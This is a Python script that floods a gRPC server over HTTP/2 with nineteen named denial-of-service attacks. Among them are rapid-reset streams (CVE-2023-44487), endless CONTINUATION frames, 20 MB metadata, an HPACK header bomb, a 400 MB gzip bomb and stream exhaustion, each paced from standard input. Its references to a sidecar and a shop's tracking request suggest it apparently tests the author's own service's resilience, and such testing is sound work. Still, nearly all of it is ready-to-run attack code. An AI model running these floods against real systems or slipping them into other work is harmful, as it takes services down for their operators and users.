"""Floods by gRPC callers, each a function. Arguments: NAME TARGET.

For each line "SECONDS BATCHES_PER_SECOND" on standard input it floods so long, and prints what it did as JSON. A pace
of 0 is as fast as it can.
"""

import contextlib
import functools
import json
import os
import socket
import struct
import sys
import time
import zlib

from frames import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    call,
    call_headers,
    frame,
    header,
    message,
)

REQUEST = b"\x08\xc0\xcf\x24\x12\x0e" + b"201214JASXYXY6"  # shop 600000's GetTrackingNumberRequest
BATCH = 200  # frames of one write


class Flood:
    """Writes batches to a connection until the time or count is reached; reconnects when the server has closed."""

    def __init__(self, target, seconds, pace, unread=False):
        self._target, self._unread = target, unread
        self._end = time.monotonic() + seconds
        self._period = 1 / pace if pace else 0
        self._due = time.monotonic()
        self._connection = None
        self.connections = self.batches = 0

    def goes_on(self):
        return time.monotonic() < self._end

    def send(self, batch):
        """False: this connection is over; the next batch begins another."""
        time.sleep(max(0.0, self._due - time.monotonic()))
        self._due = max(self._due + self._period, time.monotonic() - self._period)
        try:
            if self._connection is None:
                self._connection = Connection(self._target, unread=self._unread, seconds=2)
                self.connections += 1
            sent = self._connection.send(batch)
        except OSError:
            sent = False
            time.sleep(0.01)  # the server accepts no connection now
        if sent:
            self.batches += 1
        else:
            self.close()
        return sent

    def close(self):
        if self._connection is not None:
            self._connection.close()
        self._connection = None

    def report(self, **more):
        self.close()
        return {"connections": self.connections, "batches": self.batches, **more}


def resets(target, seconds, pace):
    """Calls that are reset at once (CVE-2023-44487)."""
    headers = call_headers()
    return taken_back(target, seconds, pace, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))


def whole_resets(target, seconds, pace):
    """The same with complete calls, which reach the sidecar's own code."""
    return taken_back(target, seconds, pace, lambda stream: call(stream, REQUEST))


def taken_back(target, seconds, pace, frames_of):
    flood, stream, count = Flood(target, seconds, pace), 1, 0
    while flood.goes_on():
        streams = range(stream, stream + 2 * BATCH, 2)
        sent = flood.send(b"".join(frames_of(s) + frame(RST_STREAM, 0, s, CANCEL) for s in streams))
        stream, count = (stream + 2 * BATCH, count + BATCH) if sent else (1, count)
    return flood.report(streams=count)


def varint(number):
    """A Protobuf varint."""
    out = bytearray()
    while number >= 128:
        out.append(number % 128 + 128)
        number //= 128
    return bytes([*out, number])


def strangers(target, seconds, pace):
    """Calls each for a new shop and by a new caller."""
    flood, stream, count = Flood(target, seconds, pace), 1, 0
    while flood.goes_on():
        batch = []
        for number in range(count, count + BATCH):
            request = b"\x08" + varint(2**40 + number) + b"\x12\x01x"
            name = ("x-firstmile-caller", f"stranger {number} " + 100 * "x")
            batch.append(call(stream + 2 * (number - count), request, more=[name]))
        sent = flood.send(b"".join(batch))
        stream, count = (stream + 2 * BATCH if sent else 1, count + BATCH)
    return flood.report(strangers=count)


def repeated(target, seconds, pace, batch, unread=False):
    flood = Flood(target, seconds, pace, unread)
    while flood.goes_on():
        flood.send(batch)
    return flood.report()


def pings(target, seconds, pace):
    """PINGs whose answers are not read."""
    return repeated(target, seconds, pace, BATCH * frame(PING, 0, 0, b"12345678"), unread=True)


def settings(target, seconds, pace):
    """SETTINGS whose acknowledgements are not read."""
    return repeated(target, seconds, pace, BATCH * frame(SETTINGS), unread=True)


def acknowledgements(target, seconds, pace):
    """Acknowledgements of SETTINGS that were never sent."""
    return repeated(target, seconds, pace, BATCH * frame(SETTINGS, ACK))


def priorities(target, seconds, pace):
    """Priorities of streams that do not exist."""
    return repeated(target, seconds, pace, BATCH * frame(PRIORITY, 0, 1001, struct.pack(">IB", 0, 9)))


def windows(target, seconds, pace):
    """The window of the connection, opened byte by byte."""
    return repeated(target, seconds, pace, BATCH * frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def empty_data(target, seconds, pace):
    """A call whose message comes in frames without a byte."""
    flood, first = Flood(target, seconds, pace), frame(HEADERS, END_HEADERS, 1, call_headers())
    while flood.goes_on():
        if flood.send(first):
            while flood.goes_on() and flood.send(BATCH * frame(DATA, 0, 1)):
                pass
    return flood.report()


def continuations(target, seconds, pace):
    """Endless headers: each CONTINUATION adds one (CVE-2024-27316 and similar ones)."""
    flood = Flood(target, seconds, pace)
    block = b"".join(header(f"x-{i}", 100 * "v") for i in range(8))
    while flood.goes_on():
        if flood.send(frame(HEADERS, 0, 1, call_headers())):
            while flood.goes_on() and flood.send(20 * frame(CONTINUATION, 0, 1, block)):
                pass
    return flood.report()


def empty_continuations(target, seconds, pace):
    """The same with empty frames."""
    flood = Flood(target, seconds, pace)
    while flood.goes_on():
        if flood.send(frame(HEADERS, 0, 1, call_headers())):
            while flood.goes_on() and flood.send(BATCH * frame(CONTINUATION, 0, 1)):
                pass
    return flood.report()


def metadata(target, seconds, pace):
    """Repeated calls with 20 MB of metadata (CVE-2023-33953)."""
    flood, sent = Flood(target, seconds, pace), 0
    block = call_headers() + header("x-large", 20_000_000 * b"v")
    pieces = [block[at : at + FRAME_BYTES_MAX] for at in range(0, len(block), FRAME_BYTES_MAX)]
    frames = [frame(HEADERS if at == 0 else CONTINUATION, 0, 1, piece) for at, piece in enumerate(pieces)]
    batch = b"".join(frames) + frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, message(REQUEST))
    while flood.goes_on():
        sent += flood.send(batch)
        flood.close()
    return flood.report(sent=sent)


def header_bomb(target, seconds, pace):
    """One header of 4 kB in the dynamic table, named 10,000 times by a byte each: 40 MB from 10 kB, per call."""
    flood, stream = Flood(target, seconds, pace), 1
    value = header("x", 4000 * "v", indexed=True)
    bomb = call_headers() + 10_000 * b"\xbe"  # the newest entry of the table
    while flood.goes_on():
        frames = frame(HEADERS, END_HEADERS | END_STREAM, stream, value + bomb)
        stream = stream + 2 if flood.send(frames) else 1
    return flood.report()


@functools.cache
def bomb():
    """400 MB of zeros in 400 kB, as a message."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return message(b"".join([*(packer.compress(zeros) for _ in range(400)), packer.flush()]), compressed=True)


def gzip_bomb(target, seconds, pace):
    """Sequential messages that grow a thousandfold when decompressed (CVE-2023-32732 and similar ones)."""
    headers = call_headers(more=[("grpc-encoding", "gzip")])
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with Connection(target, seconds=2) as connection:
            connection.send(frame(HEADERS, END_HEADERS, 1, headers))
            sent += connection.send_data(1, bomb(), end=True, seconds=1)
            connection.wait_for(HEADERS, 1, seconds=1)
    return {"bomb_bytes": len(bomb()), "sent": sent}


def half_messages(target, seconds, pace):
    """As many calls as the server's windows allow, with messages of 1 MB that lack their last byte."""
    end, taken, stream = time.monotonic() + seconds, 0, 1
    data = message(bytes(1_000_000))[:-1]
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(Connection(target, seconds=2)) for _ in range(20)]
        while time.monotonic() < end and stream < 2 * 100:
            for connection in connections:
                connection.send(frame(HEADERS, END_HEADERS, stream, call_headers()))
                taken += connection.send_data(stream, data, seconds=0.1)
            stream += 2
        time.sleep(max(0.0, end - time.monotonic()))  # they stay
    return {"messages": taken}


def open_streams(target, seconds, pace):
    """Calls that start and send nothing more."""
    headers = call_headers()
    return kept_streams(target, seconds, pace, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))


def watches(target, seconds, pace):
    """Watch streams of the health service, which stay open."""
    return kept_streams(
        target, seconds, pace, lambda stream: call(stream, b"", path="/grpc.health.v1.Health/Watch")
    )


def kept_streams(target, seconds, pace, frames_of):
    """Alternates over ten connections; all streams stay open until the end."""
    with contextlib.ExitStack() as stack:
        floods = [Flood(target, seconds, pace / 10) for _ in range(10)]
        for flood in floods:
            stack.callback(flood.close)
        for first in range(1, 2 * 100_000, 2 * BATCH):
            batch = b"".join(map(frames_of, range(first, first + 2 * BATCH, 2)))
            for flood in floods:
                flood.send(batch)
            if not floods[0].goes_on():
                break
    return {name: sum(getattr(flood, name) for flood in floods) for name in ("connections", "batches")}


def noise(target, seconds, pace):
    """Random bytes, with and without a connection preface."""
    count = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        greeting = PREFACE + frame(SETTINGS) if count % 2 else b""
        try:
            with Connection(target, greeting + os.urandom(4096), seconds=2) as connection:
                connection.closed.wait(0.05)
            count += 1
        except OSError:
            time.sleep(0.01)
    return {"connections": count}


def knocks(target, seconds, pace):
    """Connections that close at once, some with a reset."""
    count, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with Connection(target, PREFACE, unread=True, seconds=2) as connection:
                if count % 2:
                    connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            count += 1
        except OSError:
            time.sleep(0.01)
    return {"connections": count}


ATTACKS = {
    attack.__name__: attack
    for attack in (
        resets, whole_resets, strangers, pings, settings, acknowledgements, priorities, windows, empty_data, continuations,
        empty_continuations, metadata, header_bomb, gzip_bomb, half_messages, open_streams, watches, noise, knocks,
    )
}


def main(name, target):
    for line in sys.stdin:
        seconds, pace = map(float, line.split())
        print(json.dumps(ATTACKS[name](target, seconds, pace)), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
